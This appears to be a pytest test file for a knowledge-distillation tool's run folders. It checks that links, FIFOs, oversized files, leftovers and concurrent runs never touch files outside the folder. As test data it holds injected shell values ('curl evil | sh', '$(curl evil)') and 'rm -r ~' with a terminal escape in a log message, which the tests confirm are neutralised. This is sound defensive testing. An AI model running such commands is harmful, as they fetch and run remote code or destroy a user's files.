"""Hostile run folders: nothing outside of them is read, changed or deleted."""

from __future__ import annotations

import json
import logging
import multiprocessing
import os
import signal
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
import torch

from robustkd import report
from robustkd.core import files
from robustkd.core.environment import environment
from robustkd.core.errors import InputError, RobustKDError, UsageError
from robustkd.core.files import free_name, new_folder, read_json, write_json
from robustkd.models.model_file import write_safetensors
from robustkd.pipeline.run_folder import opened
from robustkd.pipeline.trackers import Events
from robustkd.teacher.defences.masks import load_detoxified
from robustkd.training.checkpoint import State, load_state, save_state

INPUTS = {"settings": {"epochs": 3}, "teacher": {"sha256": "ab"}, "data": {"name": "digits"}}
RECORDS = [{"epoch": 1.0, "loss": 0.5}]
WRITTEN = (
    "config.yaml",
    "run.json",
    "environment.json",
    "split.json",
    "metrics.jsonl",
    "checkpoint.safetensors",
    "student.safetensors",
    "results.json",
    "report.html",
)
STATE = State({"a": torch.ones(2)}, {"records": RECORDS, "step": 1, "seconds": 1.0})


@pytest.fixture
def victim(tmp_path) -> Iterator[Path]:
    """A folder outside of the run folder, which must stay as it is."""
    folder = tmp_path / "home"
    folder.mkdir()
    for name in ("bashrc", "diary"):
        (folder / name).write_text("precious\n")
    yield folder
    assert {path.name: path.read_text() for path in folder.iterdir()} == {
        "bashrc": "precious\n",
        "diary": "precious\n",
    }


def begin(folder: Path, **how: object) -> None:
    """Begin a run, or go on with one, and write all that a run writes on its way."""
    with opened(folder, inputs=INPUTS, config={"epochs": 3}, split=["{}"], **how) as run:
        run.save(STATE)


@pytest.fixture
def folder(tmp_path) -> Path:
    """The folder of a run that began and was stopped."""
    begin(tmp_path / "run")
    return tmp_path / "run"


def refused(action: Callable[[], object]) -> str:
    with pytest.raises(RobustKDError) as caught:
        action()
    text = str(caught.value)
    assert text.isprintable()
    return text


# Going on with a run.


@pytest.mark.parametrize("make", [os.symlink, os.link])
@pytest.mark.parametrize("name", ["run.log", ".lock"])
def test_appending_never_writes_to_another_file(name, make, folder, victim):
    (folder / name).unlink()
    make(victim / "bashrc", folder / name)
    if (name, make) == (".lock", os.link):
        begin(folder, resume=True)  # it is locked, not written
        return
    text = refused(lambda: begin(folder, resume=True))
    assert text.startswith(f"{folder / name} is refused: it ")
    assert text.endswith("; remove it")


@pytest.mark.parametrize("name", ["run.log", ".lock"])
def test_a_dangling_link_creates_no_file(name, folder, tmp_path):
    (folder / name).unlink()
    (folder / name).symlink_to(tmp_path / "new")
    refused(lambda: begin(folder, resume=True))
    assert not (tmp_path / "new").exists()


@pytest.mark.parametrize("value", ["x\n; curl evil | sh\n", "$(curl evil)", ["curl"], 10**70])
def test_an_environment_read_from_a_folder_is_not_logged(value, folder, caplog):
    write_json(folder / "environment.json", environment() | {"torch": value})
    caplog.set_level(logging.INFO)
    begin(folder, resume=True)
    text = (folder / "run.log").read_text() + caplog.text
    assert "torch was something unknown when the run was started and is " in text
    assert "curl" not in text
    assert str(10**70) not in text


def test_every_message_of_the_log_is_one_line(folder):
    with opened(folder, inputs=INPUTS, resume=True):
        logging.getLogger("robustkd.data").warning("a.png\nrm -r ~\x1b[2J is left out")
    lines = (folder / "run.log").read_text().split("\n")
    assert sum("rm -r" in line for line in lines) == 1
    assert r"WARNING a.png\nrm -r ~\x1b[2J is left out" in "\n".join(lines)


def test_a_folder_for_tensorboard_that_is_a_link_loses_nothing(folder, victim):
    for path in (folder / "tensorboard").iterdir():
        path.unlink()
    (folder / "tensorboard").rmdir()
    (folder / "tensorboard").symlink_to(victim)
    text = refused(lambda: begin(folder, resume=True))
    assert "is refused: it is a symbolic link, not a folder; remove it" in text
    assert "make room" not in text


def test_files_of_others_beside_tensorboard_s_stay(folder):
    (folder / "tensorboard" / "notes.txt").write_text("mine")
    (folder / "tensorboard" / "events.out.tfevents.1.host").write_text("another tool's")
    old = {path.name for path in (folder / "tensorboard").glob("*.robustkd")}
    Events(folder / "tensorboard").show(RECORDS, [0.0] * len(RECORDS))
    left = {path.name for path in (folder / "tensorboard").iterdir()}
    assert {"notes.txt", "events.out.tfevents.1.host"} < left
    assert not old & left


@pytest.mark.parametrize("suffix", ["", ".partial"])
@pytest.mark.parametrize("name", WRITTEN)
def test_nothing_is_written_through_a_link(name, suffix, folder, victim):
    place = folder / f"{name}{suffix}"
    place.unlink(missing_ok=True)
    place.symlink_to(victim / "bashrc")
    try:
        begin(folder, resume=True)
        write_json(folder / name, {})
        save_state(STATE, folder / name)
    except RobustKDError:
        pass


READERS: dict[str, Callable[[Path], object]] = {
    "config.yaml": lambda path: begin(path.parent, resume=True),
    "run.json": read_json,
    "environment.json": lambda path: begin(path.parent, resume=True),
    "results.json": lambda path: report.read(path.parent),
    "arrays.npz": lambda path: report.arrays.read_arrays(path.parent),
    "checkpoint.safetensors": load_state,
    "detoxified.safetensors": lambda path: load_detoxified(path, links=False),
}


def as_link(path: Path) -> None:
    path.with_name("other").write_text("{}")
    path.symlink_to(path.with_name("other"))


def as_endless(path: Path) -> None:
    path.symlink_to("/dev/zero")


def as_sparse(path: Path) -> None:
    with path.open("wb") as file:
        file.truncate(100 << 30)


@pytest.fixture
def deadline() -> Iterator[None]:
    """No reader waits for the other end of a FIFO."""

    def stop(number, frame):
        raise AssertionError("it waits")

    before = signal.signal(signal.SIGALRM, stop)
    signal.alarm(20)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, before)


@pytest.mark.parametrize("make", [as_link, as_endless, os.mkfifo, Path.mkdir, as_sparse])
@pytest.mark.parametrize("name", READERS)
def test_only_regular_files_of_a_bounded_size_are_read(name, make, folder, deadline):
    import robustkd.report.arrays  # noqa: F401

    path = folder / name
    path.unlink(missing_ok=True)
    make(path)
    if name == "config.yaml":
        from robustkd.core.yaml_files import read_yaml

        refused(lambda: read_yaml(path, links=False))
        return
    refused(lambda: READERS[name](path))


def test_what_a_killed_run_left_is_removed_and_nothing_else(folder, victim):
    left = folder / ".robustkd-file-0123456789abcdef.partial"
    left.mkdir()
    (left / "checkpoint.safetensors").write_text("half of it")
    (left / "link").symlink_to(victim)
    foreign = [".tmpabcdef", "x.partial", ".robustkd-file-.partial"]
    for name in foreign:
        (folder / name).write_text("not ours")
    link = folder / ".robustkd-file-fedcba9876543210.partial"
    link.symlink_to(victim)
    begin(folder, resume=True)
    assert not left.exists()
    assert all((folder / name).read_text() == "not ours" for name in foreign)
    assert link.is_symlink()


# Beginning one.


@pytest.mark.parametrize(
    "name",
    [
        *("config.yaml.partial", "run.json.partial", "a.partial", ".x"),
        ".robustkd-file-0123456789abcdef.partial",
    ],
)
def test_a_folder_with_leftovers_is_not_empty(name, tmp_path, victim):
    out = tmp_path / "out"
    out.mkdir()
    (out / name).symlink_to(victim / "bashrc")
    assert refused(lambda: begin(out)) == (
        f"output folder {out} is not empty; give a new one with --out"
    )
    assert [path.name for path in out.iterdir()] == [name]


def test_leftovers_of_a_killed_run_are_removed_when_a_new_one_begins(tmp_path):
    out = tmp_path / "out"
    for purpose in ("file", "export"):
        left = out / f".robustkd-{purpose}-0123456789abcdef.partial"
        left.mkdir(parents=True)
        (left / "evil").write_text("not ours")
    begin(out)
    assert not list(out.rglob("evil"))
    assert not list(out.glob("*.partial"))


@pytest.mark.parametrize("error", [UsageError("no"), KeyboardInterrupt(), ValueError("no")])
def test_a_folder_in_which_nothing_was_written_is_removed(error, tmp_path):
    def fail(folder: Path) -> None:
        with new_folder(folder):
            raise error

    with pytest.raises(type(error)):
        fail(tmp_path / "new")
    assert not (tmp_path / "new").exists()
    # A folder that was there before stays, and is as empty as before.
    (tmp_path / "old").mkdir()
    with pytest.raises(type(error)):
        fail(tmp_path / "old")
    assert list((tmp_path / "old").iterdir()) == []


def test_a_folder_with_a_file_stays(tmp_path):
    out = tmp_path / "new"

    def fail() -> None:
        with new_folder(out):
            (out / "log").write_text("why")
            raise ValueError("no")

    with pytest.raises(ValueError, match="no"):
        fail()
    assert (out / "log").read_text() == "why"


def test_a_second_run_in_one_folder_is_refused_at_once(tmp_path):
    out = tmp_path / "out"
    with opened(out, inputs=INPUTS), pytest.raises(UsageError, match=r"is not empty"):
        begin(out)
    with new_folder(tmp_path / "new"):
        (tmp_path / "new" / ".lock").exists()
        message = f"{tmp_path / 'new'} is in use by another process; wait until it has ended"
        assert refused(lambda: begin(tmp_path / "new")) == message


def test_a_new_run_never_overwrites_a_finished_one(tmp_path, monkeypatch):
    """Both have looked before either has inputs, as two that prepare their teachers for minutes."""
    out = tmp_path / "out"
    monkeypatch.setattr(files, "check_free", lambda _path: None)
    begin(out)
    before = {path.name: path.stat().st_mtime_ns for path in out.iterdir()}
    assert refused(lambda: begin(out)).endswith("is not empty; give a new one with --out")
    assert {path.name: path.stat().st_mtime_ns for path in out.iterdir()} == before


def _race(out: Path, barrier, results) -> None:
    files.check_free = lambda _path: None
    barrier.wait(60)
    try:
        with opened(out, inputs=INPUTS) as run:
            write_json(run.folder / "results.json", {"pid": os.getpid()})
        results.put("done")
    except (UsageError, InputError) as error:
        results.put(str(error))


def test_of_many_runs_at_once_one_has_the_folder(tmp_path):
    context = multiprocessing.get_context("fork")
    barrier, results = context.Barrier(4), context.Queue()
    racers = [context.Process(target=_race, args=(tmp_path, barrier, results)) for _ in range(4)]
    for racer in racers:
        racer.start()
    ends = sorted(results.get(timeout=60) for _ in racers)
    for racer in racers:
        racer.join()
    assert ends.count("done") == 1
    assert all("is not empty" in end or "is in use" in end for end in ends if end != "done")
    assert set(json.loads((tmp_path / "results.json").read_text())) == {"pid"}


def test_a_name_that_is_a_link_without_a_target_is_not_free(tmp_path):
    (tmp_path / "demo").symlink_to(tmp_path / "nothing")
    assert free_name(tmp_path / "demo") == tmp_path / "demo-2"


@pytest.mark.parametrize(
    "values",
    [
        "{",
        "[" * 100_000,
        "[]",
        "{}",
        '{"seconds": "x", "records": []}',
        '{"seconds": 1, "records": 3}',
        '{"seconds": 1, "records": [[]]}',
        '{"seconds": 1, "records": [{"loss": "x"}]}',
    ],
)
def test_a_checkpoint_of_another_form_is_refused_in_one_line(values, folder):
    path = folder / "checkpoint.safetensors"
    path.unlink()
    write_safetensors(path, STATE.tensors, {"state": values})
    with opened(folder, inputs=INPUTS, resume=True, trust=True) as run:
        text = refused(run.last)
    assert text == f"{path} has no training state; expected a run's checkpoint"


def test_changed_kernel_choices_are_reported(folder, caplog, monkeypatch):
    before = environment() | {"OMP_A": "1", "MKL_B": "2", "ATEN_C\n": "x", "TORCH_D": "\x1b[2J"}
    write_json(folder / "environment.json", before)
    monkeypatch.setenv("OMP_A", "3")
    monkeypatch.setenv("ONEDNN_E", "4")
    with caplog.at_level(logging.WARNING):
        begin(folder, resume=True)
    told = [record.getMessage().partition(":")[0] for record in caplog.records]
    assert told == [
        "OMP_A was 1 when the run was started and is 3 now",
        "ONEDNN_E was not set when the run was started and is 4 now",
        "MKL_B was 2 when the run was started and is not set now",
        "TORCH_D was something unknown when the run was started and is not set now",
    ]
